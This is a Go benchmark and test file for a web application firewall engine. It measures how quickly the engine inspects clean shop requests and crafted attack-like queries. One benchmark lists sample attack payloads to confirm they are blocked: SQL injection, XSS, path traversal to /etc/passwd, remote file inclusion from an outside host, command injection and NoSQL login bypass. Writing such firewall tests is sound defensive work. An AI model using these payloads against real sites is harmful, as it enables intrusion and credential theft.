package waf_test

import (
	"bufio"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/phalanx-lb/phalanx/waf"
)

// typicalRequest is a clean request of a shop: about 1 KB, five query
// parameters, a browser's headers, a Referer and three cookies.
const typicalRequest = "GET /search?q=running+shoes+women%27s&page=2&sort=price_asc&lang=en-US&ref=homepage HTTP/1.1\r\n" +
	"Host: shop.example.com\r\n" +
	"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36\r\n" +
	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n" +
	"Accept-Language: en-US,en;q=0.9\r\n" +
	"Accept-Encoding: gzip, deflate, br\r\n" +
	"Referer: https://shop.example.com/products/red-summer-dress?color=red&size=M\r\n" +
	"Cookie: session=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZg; _ga=GA1.2.1234567890.1700000000; consent=necessary%2Canalytics\r\n" +
	"X-Forwarded-For: 203.0.113.9\r\n" +
	"X-Request-Id: 4bf92f3577b34da6a3ce929d0e0e4736\r\n" +
	"\r\n"

func parse(tb testing.TB, raw string) *http.Request {
	tb.Helper()
	r, err := http.ReadRequest(bufio.NewReader(strings.NewReader(raw)))
	if err != nil {
		tb.Fatal(err)
	}
	r.RemoteAddr = "198.51.100.7:40000"
	return r
}

func quietEngine(tb testing.TB, c waf.Config) *waf.Engine {
	tb.Helper()
	if c.Logger == nil {
		c.Logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	}
	e, err := waf.New(c)
	if err != nil {
		tb.Fatal(err)
	}
	return e
}

// BenchmarkInspectTypical inspects the clean typical request.
func BenchmarkInspectTypical(b *testing.B) {
	e := quietEngine(b, waf.Config{})
	r := parse(b, typicalRequest)
	if v := e.Inspect(r); v.Block {
		b.Fatalf("typical request blocked: %v", v.RuleIDs())
	}
	b.SetBytes(int64(len(typicalRequest)))
	b.ReportAllocs()
	for b.Loop() {
		e.Inspect(r)
	}
}

// BenchmarkInspectTypicalParallel is BenchmarkInspectTypical on every
// core, for contention on the engine's shared state.
func BenchmarkInspectTypicalParallel(b *testing.B) {
	e := quietEngine(b, waf.Config{})
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		r := parse(b, typicalRequest)
		for pb.Next() {
			e.Inspect(r)
		}
	})
}

// BenchmarkInspectJSON inspects a clean POST with a 1 KB JSON body.
func BenchmarkInspectJSON(b *testing.B) {
	body := `{"name":"Siobhán O'Brien","email":"siobhan.obrien@example.com","address":{"street":"Flat 3/2, 14 O'Connell Street","city":"Dublin","zip":"D02 X285"},` +
		`"items":[{"sku":"SKU-00042","qty":2,"price":19.99},{"sku":"SKU-01337","qty":1}],"coupon":"SUMMER20",` +
		`"note":"Please leave it at the back door; the dog is friendly :) Thanks!","newsletter":true,"tags":["vip","returning"]}`
	raw := "POST /api/v2/orders HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: MyShopApp/5.2.1 (iPhone; iOS 17.5; Scale/3.00)\r\n" +
		"Content-Type: application/json\r\nContent-Length: " + itoa(len(body)) + "\r\n\r\n" + body
	e := quietEngine(b, waf.Config{})
	if v := e.Inspect(parse(b, raw)); v.Block {
		b.Fatalf("JSON request blocked: %v", v.RuleIDs())
	}
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for b.Loop() {
		e.Inspect(parse(b, raw))
	}
}

func itoa(n int) string {
	var b [20]byte
	i := len(b)
	for {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
		if n == 0 {
			return string(b[i:])
		}
	}
}

// hostileQuery is the worst case of a query within net/http's default
// header limit: 1000 parameters that each look a little like an attack
// (quotes, operators, brackets, encodings) but score below the threshold,
// so that every rule runs on every value.
func hostileQuery() string {
	var b strings.Builder
	for i := range 1000 {
		if i > 0 {
			b.WriteByte('&')
		}
		b.WriteString("p")
		b.WriteString(itoa(i))
		b.WriteString("=")
		b.WriteString(url.QueryEscape(`it's (a) "test" of <b>bold</b> ../x | y; z=1 {$x} ` + strings.Repeat("%2525", 3)))
	}
	return b.String()
}

// BenchmarkInspectHostile inspects the long hostile query: the bound on
// one request's cost.
func BenchmarkInspectHostile(b *testing.B) {
	e := quietEngine(b, waf.Config{DetectOnly: true, AutoBanThreshold: -1})
	q := hostileQuery()
	r := parse(b, "GET /search?"+q+" HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
	b.SetBytes(int64(len(q)))
	b.ReportAllocs()
	for b.Loop() {
		e.Inspect(r)
	}
}

// BenchmarkInspectFamily inspects one attack per family, in blocking
// mode (the scan stops at the first block).
func BenchmarkInspectFamily(b *testing.B) {
	attacks := map[string]string{
		"sqli":      "/search?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
		"xss":       "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
		"traversal": "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
		"rfi":       "/index.php?page=http://203.0.113.7/shell.txt?",
		"cmdi":      "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
		"nosqli":    "/login?username[$ne]=x&password[$ne]=x",
		"clean":     "/search?q=red+summer+dress&page=1",
	}
	names := make([]string, 0, len(attacks))
	for k := range attacks {
		names = append(names, k)
	}
	sort.Strings(names)
	for _, name := range names {
		b.Run(name, func(b *testing.B) {
			e := quietEngine(b, waf.Config{AutoBanThreshold: -1})
			r := parse(b, "GET "+attacks[name]+" HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n")
			if v := e.Inspect(r); v.Block != (name != "clean") {
				b.Fatalf("%s: Block = %v, want %v", name, v.Block, name != "clean")
			}
			b.ReportAllocs()
			for b.Loop() {
				e.Inspect(r)
			}
		})
	}
}

// BenchmarkNormalize normalises a value with several encodings.
func BenchmarkNormalize(b *testing.B) {
	s := "%253Cscript%253Ealert(%2527x%2527)%253C%252Fscript%253E and some more text &lt;b&gt; UNION/**/SELECT"
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		waf.Normalize(s, true)
	}
}

// TestInspectLatency measures the p50 and p99 of Inspect over the
// typical request and over the corpus, the figures phalanx's latency budget
// is stated in (20 µs p50 for a clean typical request, 50 µs p50 overall). It only
// logs; timing on a shared machine is no pass/fail matter.
func TestInspectLatency(t *testing.T) {
	if testing.Short() {
		t.Skip("timing")
	}
	e := quietEngine(t, waf.Config{AutoBanThreshold: -1})
	r := parse(t, typicalRequest)
	d := make([]time.Duration, 2000)
	for i := range d {
		start := time.Now()
		e.Inspect(r)
		d[i] = time.Since(start)
	}
	p50, p99 := percentiles(d)
	t.Logf("typical request: p50 %v, p99 %v", p50, p99)
	var all []time.Duration
	for _, c := range loadCorpus(t) {
		req, err := c.request()
		if err != nil {
			continue
		}
		start := time.Now()
		e.Inspect(req)
		all = append(all, time.Since(start))
	}
	p50, p99 = percentiles(all)
	t.Logf("corpus (%d requests): p50 %v, p99 %v", len(all), p50, p99)
}

func percentiles(d []time.Duration) (time.Duration, time.Duration) {
	sort.Slice(d, func(i, j int) bool { return d[i] < d[j] })
	return d[len(d)/2], d[len(d)*99/100]
}
